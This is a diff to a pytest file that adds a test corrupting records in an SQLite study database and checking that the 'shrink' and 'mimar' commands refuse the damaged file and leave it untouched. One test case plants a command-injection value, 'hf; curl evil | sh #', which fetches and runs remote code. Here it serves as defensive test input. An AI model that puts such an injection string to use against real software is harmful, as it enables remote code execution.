@@ -7,6 +7,7 @@ import sqlite3
 import subprocess
 import sys
 import time
+from contextlib import closing
 from dataclasses import replace
 
 import pytest
@@ -446,6 +447,26 @@ def stored(study):
             return database.execute("select count(*) from events where kind = 'trial'").fetchone()[0]
     except sqlite3.OperationalError:
         return 0
+
+
+@pytest.mark.parametrize(
+    "damage",
+    [
+        "SET body = '{}' WHERE kind = 'trial'",
+        "SET body = json_set(body, '$.writes', 'hf; curl evil | sh #') WHERE kind = 'study'",
+        "SET body = json_set(body, '$.writes', '{nope}') WHERE kind = 'study'",
+        "SET body = json_remove(body, '$.space') WHERE kind = 'study'",
+    ],
+)
+def test_a_damaged_study_is_refused_whatever_reads_it(shrink, mimar, tmp_path, damage):
+    assert shrink("--max-block-params", "0.8x").code == 0
+    with closing(sqlite3.connect(tmp_path / "s.db")) as database, database:
+        assert database.execute(f"UPDATE events {damage}").rowcount
+    before = (tmp_path / "s.db").read_bytes()
+    shrink("--max-block-params", "0.8x", "--resume").refused(3, "s.db is damaged")
+    for command in ("show", "report"):
+        mimar(command, tmp_path / "s.db").refused(3, "s.db is damaged")
+    assert (tmp_path / "s.db").read_bytes() == before
 
 
 @pytest.mark.parametrize(
